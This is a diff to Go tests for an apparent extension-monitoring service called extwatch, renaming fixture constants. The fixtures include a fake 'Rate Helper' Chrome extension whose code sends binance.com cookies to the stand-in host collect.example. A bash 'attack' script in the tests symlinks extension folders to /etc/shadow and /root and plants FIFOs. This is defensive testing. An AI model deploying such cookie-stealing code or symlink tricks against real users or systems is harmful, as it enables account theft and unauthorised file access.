@@ -12,11 +12,11 @@ import (
 	"time"
 )
 
-// thief is an extension that sends a session's cookies away. It contacts nobody but a name that cannot exist.
+// What is planted is an extension that sends a session's cookies away. It contacts nobody but a name that cannot exist.
 const (
-	thiefManifest = `{"manifest_version":3,"name":"Rate Helper","version":"1.0","permissions":["cookies"],` +
+	plantedManifest = `{"manifest_version":3,"name":"Rate Helper","version":"1.0","permissions":["cookies"],` +
 		`"host_permissions":["https://*.binance.com/*","https://collect.example/*"],"background":{"service_worker":"bg.js"}}`
-	thiefCode = `chrome.cookies.getAll({domain: "binance.com"}, (all) => fetch("https://collect.example/", {method: "POST", body: JSON.stringify(all)}));` + "\n"
+	plantedCode = `chrome.cookies.getAll({domain: "binance.com"}, (all) => fetch("https://collect.example/", {method: "POST", body: JSON.stringify(all)}));` + "\n"
 )
 
 // machineStatus is `extwatch status --json`, as far as the tests look.
@@ -76,7 +76,7 @@ func TestServiceUnderSystemd(t *testing.T) {
 
 	p := newProduct(t)
 	begun := time.Now()
-	b.plant(t, "ada", p.id, thiefManifest, thiefCode)
+	b.plant(t, "ada", p.id, plantedManifest, plantedCode)
 	waitFor(t, "the finding in the status", 20*time.Second, func() bool {
 		s, code := b.status(t)
 		return code == 3 && s.Malicious == 1 && s.Profiles == 1
@@ -130,7 +130,7 @@ a=$e/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/1.0_0 ; mkdir -p $a; ln -s /etc/shadow $a/
 b=$e/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb/1.0_0 ; mkdir -p $b; mkfifo $b/manifest.json
 c=$e/cccccccccccccccccccccccccccccccc/1.0_0 ; mkdir -p $c; printf %s "$1" > $c/manifest.json; mkfifo $c/bg.js
 d=$e/dddddddddddddddddddddddddddddddd ; mkdir $d; ln -s /root $d/1.0_0`
-	if _, errs, code := b.as("bob", "/bin/bash", "-c", script, "attack", thiefManifest); code != 0 {
+	if _, errs, code := b.as("bob", "/bin/bash", "-c", script, "attack", plantedManifest); code != 0 {
 		t.Fatalf("attack: exit %d\n%s", code, errs)
 	}
 	waitFor(t, "bob's profile to be read", 30*time.Second, func() bool {
@@ -140,7 +140,7 @@ d=$e/dddddddddddddddddddddddddddddddd ; mkdir $d; ln -s /root $d/1.0_0`
 	restarts := b.property(t, "NRestarts")
 	q := newProduct(t)
 	begun := time.Now()
-	script = strings.ReplaceAll(thiefManifest, "Rate Helper", "After The Attack")
+	script = strings.ReplaceAll(plantedManifest, "Rate Helper", "After The Attack")
 	b.plantElsewhere(t, "ada", q.id, script)
 	waitFor(t, "an extension that arrives during the attack", 20*time.Second, func() bool {
 		out, _ := b.run("extwatch", "history", q.id)
@@ -161,7 +161,7 @@ d=$e/dddddddddddddddddddddddddddddddd ; mkdir $d; ln -s /root $d/1.0_0`
 // plantElsewhere puts a second extension into a profile that is there.
 func (b *box) plantElsewhere(t *testing.T, user, id, manifest string) {
 	t.Helper()
-	b.plant(t, user, id, manifest, thiefCode)
+	b.plant(t, user, id, manifest, plantedCode)
 }
 
 // crash kills the service: it comes back, knows what it knew, and finds nothing new.
